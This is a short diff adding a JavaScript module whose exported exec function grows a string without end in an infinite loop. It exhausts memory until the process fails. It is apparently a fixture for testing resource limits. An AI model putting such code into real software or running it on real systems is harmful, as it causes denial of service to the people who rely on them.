@@ -1,0 +1,4 @@
+export const exec = () => {
+  let text = 'x';
+  for (;;) text += text.slice(0, 65536);
+};
